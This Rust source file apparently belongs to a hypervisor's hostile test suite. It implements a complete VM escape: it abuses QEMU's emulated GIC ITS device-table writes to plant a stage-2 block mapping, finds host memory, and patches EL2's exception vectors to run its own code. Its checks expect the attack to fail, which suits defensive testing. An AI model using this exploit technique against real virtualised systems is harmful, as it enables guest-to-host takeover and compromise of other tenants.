//! EL2 taken over by the device table alone.
//!
//! A flat device table of one page lies where GITS_BASER says, and MAPD writes
//! the entry that the DeviceID counts to. QEMU's entry is `valid | size << 1 |
//! ITT address >> 8 << 6`, and with the right arguments that is a block
//! descriptor of stage 2 (DDI 0487, D8.3.2). The page is tried that the stage 2
//! of this very CPU starts with, by trying all.

use crate::its::{Its, Kind, command};
use crate::places::{Places, Range, own};
use core::arch::{asm, global_asm};
use portcullis_hostile::{Checks, exception, read, read64, say, write, write64};

/// 1 GiB of RAM, read and write, Normal memory, not cached: Valid, MemAttr
/// 0b0101, S2AP 0b11, AF.
const BLOCK: u64 = 0x4000_0000 | 1 << 10 | 3 << 6 | 0b0101 << 2 | 1;
/// Which entries: addresses where this machine has nothing. Another one for each
/// page, since a TLB may hold what was there before.
const INDICES: core::ops::Range<u64> = 264..500;
/// Bytes of an entry of the first level, and of a table.
const BLOCK_SIZE: u64 = 1 << 30;
const TABLE_ENTRIES: u64 = 512;
const PAGE: u64 = 0x1000;
/// A word of this kernel's memory, to be found in the window.
const MAGIC: u64 = 0x6f70_656e_2073_6573;

unsafe extern "C" {
    static el2_code: [u32; 6];
}

// What runs at EL2 in the place of its vector: says where it is.
global_asm!(
    r#"
    .text
    .balign 8
    .global el2_code
el2_code:
    mrs     x0, CurrentEL
    mrs     x1, vttbr_el2
    mrs     x2, hcr_el2
    mrs     x3, ttbr0_el2
    eret
    nop
    "#
);

/// Tries it; on success, what has to be added to an address of RAM to reach it.
pub fn attack(checks: &mut Checks, places: &Places, its: &mut Its) -> Option<u64> {
    let first = places.ranges().next();
    first?;
    let direct = first.map(|image| exception(|| _ = read(image.start)));
    checks.equal(
        "image_is_out_of_reach",
        direct.map(|(class, _)| class),
        Some(0x25),
    );
    write64(own::MARK, MAGIC);
    let mut stores = 0;
    let mut pages = places
        .ranges()
        .skip(1)
        .flat_map(|range| (range.start..range.end).step_by(PAGE as usize));
    let window = pages.find_map(|page| {
        let index = INDICES.start + stores % (INDICES.end - INDICES.start);
        stores += 1;
        store(its, page, index);
        window(index)
    });
    its.off();
    say!("its: device table: {stores} stores, window {window:x?}");
    checks.equal("device_table_opens_a_window", window, None);
    let window = window?;
    let offset = window - BLOCK_SIZE;
    let level = first.and_then(|image| run_at_el2(image, offset));
    checks.equal("code_runs_at_el2", level, None);
    Some(offset)
}

/// Has the ITS write [`BLOCK`] into the entry `index` of a page.
pub fn store(its: &mut Its, page: u64, index: u64) {
    its.off();
    its.set_table(Kind::Devices, page, 1, 0);
    its.set_queue(own::QUEUE);
    its.on();
    let size = BLOCK >> 1 & 0x1f;
    let table = BLOCK >> 6 << 8;
    its.run([command::mapd(index, size, table)]);
}

/// Where the block has come up: the root of a stage 2 with 40 bits is two
/// tables side by side.
fn window(index: u64) -> Option<u64> {
    // SAFETY: dropping cached translations never changes what memory holds.
    unsafe { asm!("dsb sy", "tlbi vmalle1", "dsb sy", "isb") }
    let mut at = [0, TABLE_ENTRIES]
        .into_iter()
        .map(|table| (table + index) * BLOCK_SIZE);
    at.find(|at| read64(at + (own::MARK - BLOCK_SIZE)) == MAGIC)
}

/// Puts code of this kernel's into EL2's vector for calls, and calls it: the
/// exception level that it says it runs at.
fn run_at_el2(image: Range, offset: u64) -> Option<u64> {
    let vector = vectors(image, offset)? + 0x400;
    // SAFETY: words of this kernel's code, which nothing changes.
    let code = unsafe { el2_code };
    let mut kept = [0; 6];
    for ((n, word), kept) in (0..).zip(code).zip(&mut kept) {
        *kept = read(offset + vector + n * 4);
        write(offset + vector + n * 4, word);
    }
    seen_by_fetches(offset + vector);
    let (level, vttbr, hcr, ttbr): (u64, u64, u64, u64);
    // SAFETY: calls the code above, which changes nothing but these registers.
    unsafe {
        asm!("hvc #0", inout("x0") 0u64 => level, out("x1") vttbr, out("x2") hcr, out("x3") ttbr);
    }
    for (n, word) in (0..).zip(kept) {
        write(offset + vector + n * 4, word);
    }
    seen_by_fetches(offset + vector);
    say!(
        "its: hvc after: CurrentEL={level:#x} vttbr_el2={vttbr:#x} hcr_el2={hcr:#x} \
         ttbr0_el2={ttbr:#x}"
    );
    if level == 0x8 {
        say!("its: OUR CODE RUNS AT EL2");
    }
    Some(level).filter(|level| *level == 0x8)
}

fn seen_by_fetches(at: u64) {
    // SAFETY: cache maintenance.
    unsafe { asm!("dc civac, {}", "dsb sy", "ic ialluis", "dsb sy", "isb", in(reg) at) }
}

/// EL2's vectors: 2 KiB, aligned to it, whose entries for what comes from below
/// begin all alike, and otherwise than those for what comes from EL2.
fn vectors(image: Range, offset: u64) -> Option<u64> {
    let alike = |at: u64, entries: u64| {
        let first = read(offset + at);
        let all = (1..entries).all(|n| read(offset + at + n * 0x80) == first);
        Some(first).filter(|first| all && *first != 0)
    };
    (image.start.next_multiple_of(2048)..image.end)
        .step_by(2048)
        .find(|at| match (alike(*at, 4), alike(at + 0x400, 8)) {
            (Some(own), Some(lower)) => own != lower,
            _ => false,
        })
}
